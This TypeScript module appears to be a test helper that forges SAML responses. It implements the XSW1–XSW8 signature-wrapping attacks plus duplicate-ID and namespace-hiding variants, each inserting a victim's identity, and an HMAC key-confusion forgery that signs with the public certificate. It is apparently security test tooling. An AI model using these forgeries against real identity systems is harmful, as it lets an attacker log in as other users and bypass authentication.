import { createHmac, createPublicKey, createVerify, randomBytes } from 'node:crypto';
import { signXml } from '@node-saml/node-saml/lib/xml.js';

/** Rewrites genuine responses, as an attacker who sees them but has no key. */

const find = (xml: string, pattern: RegExp): string => {
  const found = pattern.exec(xml)?.[0];
  if (!found) throw new Error(`${pattern} is not in ${xml}`);
  return found;
};
const newId = () => `_${randomBytes(16).toString('hex')}`;
const renamed = (xml: string) => xml.replace(/ ID="[^"]+"/, ` ID="${newId()}"`);
const dsig = 'http://www.w3.org/2000/09/xmldsig#';

export const assertionOf = (xml: string) => find(xml, /<saml:Assertion.*<\/saml:Assertion>/s);
export const signatureOf = (xml: string) => find(xml, /<Signature.*?<\/Signature>/s);
export const withoutSignature = (xml: string) => xml.replace(signatureOf(xml), '');
const withObject = (signature: string, content: string) =>
  signature.replace('</Signature>', `<Object>${content}</Object></Signature>`);

/** The same for another user: the email and NameID of a victim, an ID of its own, no signature. */
export const evilOf = (assertion: string, victim: string) =>
  renamed(withoutSignature(assertion)).replaceAll(/ada@corp\.example/g, victim);

type Wrapping = (xml: string, victim: string) => string;

/** XML signature wrapping, as "On Breaking SAML" (Somorovsky and others, 2012) and SAML Raider number it. */
export const wrappings: Record<string, Wrapping> = {
  'XSW1: the response signed, put into its signature': (xml, victim) => {
    const signature = signatureOf(xml);
    const evil = renamed(withoutSignature(xml)).replaceAll('ada@corp.example', victim);
    const wrapped = withObject(signature, withoutSignature(xml));
    return evil.replace('<samlp:Status>', () => `${wrapped}<samlp:Status>`);
  },
  'XSW2: the response signed, put before its signature': (xml, victim) => {
    const signature = signatureOf(xml);
    const evil = renamed(withoutSignature(xml)).replaceAll('ada@corp.example', victim);
    const before = withoutSignature(xml) + signature;
    return evil.replace('<samlp:Status>', () => `${before}<samlp:Status>`);
  },
  'XSW3: another assertion before the one signed': (xml, victim) => {
    const good = assertionOf(xml);
    return xml.replace(good, () => evilOf(good, victim) + good);
  },
  'XSW4: the one signed inside another': (xml, victim) => {
    const good = assertionOf(xml);
    const evil = evilOf(good, victim).replace(
      /<\/saml:Assertion>$/,
      () => `${good}</saml:Assertion>`,
    );
    return xml.replace(good, () => evil);
  },
  'XSW5: another with its signature, the one signed after it': (xml, victim) => {
    const good = assertionOf(xml);
    const evil = signedWith(evilOf(good, victim), signatureOf(good));
    return xml.replace(good, () => evil + withoutSignature(good));
  },
  'XSW6: another with its signature, the one signed inside that': (xml, victim) => {
    const good = assertionOf(xml);
    const signature = signatureOf(good).replace(
      '</Signature>',
      () => `${withoutSignature(good)}</Signature>`,
    );
    return xml.replace(good, () => signedWith(evilOf(good, victim), signature));
  },
  'XSW7: another in Extensions': (xml, victim) => {
    const good = assertionOf(xml);
    const extensions = `<samlp:Extensions>${evilOf(good, victim)}</samlp:Extensions>`;
    return xml.replace('<samlp:Status>', () => `${extensions}<samlp:Status>`);
  },
  'XSW8: the one signed in an Object of the signature of another': (xml, victim) => {
    const good = assertionOf(xml);
    const signature = withObject(signatureOf(good), withoutSignature(good));
    return xml.replace(good, () => signedWith(evilOf(good, victim), signature));
  },
  'another with the ID of the one signed': (xml, victim) => {
    const good = assertionOf(xml);
    const evil = withoutSignature(good).replaceAll('ada@corp.example', victim);
    return xml.replace(good, () => signedWith(evil, withObject(signatureOf(good), good)));
  },
  'another hidden in a namespace of its own': (xml, victim) => {
    const good = assertionOf(xml);
    const evil = evilOf(good, victim)
      .replaceAll(/(<\/?)saml:/g, '$1x:')
      .replace('xmlns:saml', 'xmlns:x');
    return xml.replace('<samlp:Status>', () => `${evil}<samlp:Status>`);
  },
};

function signedWith(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
}

/** Signs an assertion again, as the identity provider itself would. */
export const signAnew = (xml: string, privateKey: string): string => {
  const bare = withoutSignature(assertionOf(xml));
  const signed = signXml(
    bare,
    `/*[local-name(.)='Assertion']`,
    { reference: `//*[local-name(.)='Issuer']`, action: 'after' },
    { privateKey, signatureAlgorithm: 'sha256', digestAlgorithm: 'sha256' },
  );
  return xml.replace(assertionOf(xml), () => signed);
};

/**
 * Signs with the public certificate, as if it were a shared secret.
 * @throws when the text that is signed is not what a genuine signature signs
 */
export function withHmac(xml: string, certificate: string, algorithm: string): string {
  const canonical = (info: string) =>
    info
      .replace('<SignedInfo>', `<SignedInfo xmlns="${dsig}">`)
      .replaceAll(/<([\w:]+)([^<>]*)\/>/g, '<$1$2></$1>');
  const info = find(xml, /<SignedInfo>.*<\/SignedInfo>/s);
  const value = find(xml, /(?<=<SignatureValue>).*?(?=<\/SignatureValue>)/s);
  const genuine = createVerify('sha256').update(canonical(info));
  if (!genuine.verify(createPublicKey(certificate), value, 'base64'))
    throw new Error('this is not what was signed');
  const forged = info.replace(/(?<=<SignatureMethod Algorithm=")[^"]+/, algorithm);
  const hash = algorithm.endsWith('sha1') ? 'sha1' : 'sha256';
  const mac = createHmac(hash, certificate).update(canonical(forged)).digest('base64');
  return xml.replace(info, () => forged).replace(value, () => mac);
}
